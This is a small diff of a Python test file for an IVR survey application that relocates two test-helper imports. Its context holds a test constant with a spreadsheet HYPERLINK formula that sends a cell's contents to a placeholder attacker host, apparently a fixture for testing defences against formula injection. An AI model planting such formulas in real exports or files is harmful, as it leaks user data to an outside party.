@@ -20,8 +20,8 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 from ivr_survey.api import ratings as ratings_api
 from ivr_survey.db.history import save_call
 from ivr_survey.db.tokens import create_token
-from tests.api_client import AUTH, admin_client, get
-from tests.seed import Rated, seed
+from tests.support.api_client import AUTH, admin_client, get
+from tests.support.seed import Rated, seed
 
 T = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
